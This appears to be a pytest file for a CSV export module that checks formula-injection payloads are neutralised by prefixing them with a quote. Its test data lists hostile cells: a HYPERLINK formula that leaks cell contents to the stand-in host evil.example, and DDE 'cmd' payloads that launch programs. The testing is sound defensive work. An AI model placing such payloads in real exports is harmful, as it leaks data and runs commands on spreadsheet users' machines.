"""Exports never carry a cell a spreadsheet would evaluate (CSV / formula injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from steward.exports import csv_bytes, neutralise, spreadsheet_safe

HOSTILE = [
    (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("＝1+1", "'＝1+1"),
]
HARMLESS = ["Ada Lovelace", "-3", "+1.5", "-0.25", "1e-3", "a=b", "", "O'Brien"]


@pytest.mark.parametrize(("value", "expected"), HOSTILE)
def test_formula_prefixes_are_quoted(value: str, expected: str) -> None:
    assert neutralise(value) == expected


@pytest.mark.parametrize("value", HARMLESS)
def test_text_and_plain_numbers_are_unchanged(value: str) -> None:
    assert neutralise(value) == value


def test_every_text_cell_and_header_of_a_frame_is_neutralised_and_numbers_are_kept() -> None:
    frame = pd.DataFrame(
        {
            "name": [h for h, _ in HOSTILE],
            "used": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "=bad header": ["x"] * 7,
            "when": pd.to_datetime(["2025-01-01"] * 7, utc=True),
        }
    )
    safe = spreadsheet_safe(frame)
    assert list(safe["name"]) == [e for _, e in HOSTILE]
    assert list(safe["used"]) == [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]
    assert safe["used"].dtype == frame["used"].dtype
    assert list(safe.columns) == ["name", "used", "'=bad header", "when"]
    assert frame["name"].iloc[0].startswith("=")  # the input is not modified


def test_csv_bytes_round_trips_with_no_cell_starting_a_formula() -> None:
    frame = pd.DataFrame({"member": [h for h, _ in HOSTILE], "n": range(len(HOSTILE))})
    text = csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["member", "n"]
    assert [r[0] for r in rows[1:]] == [e for _, e in HOSTILE]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
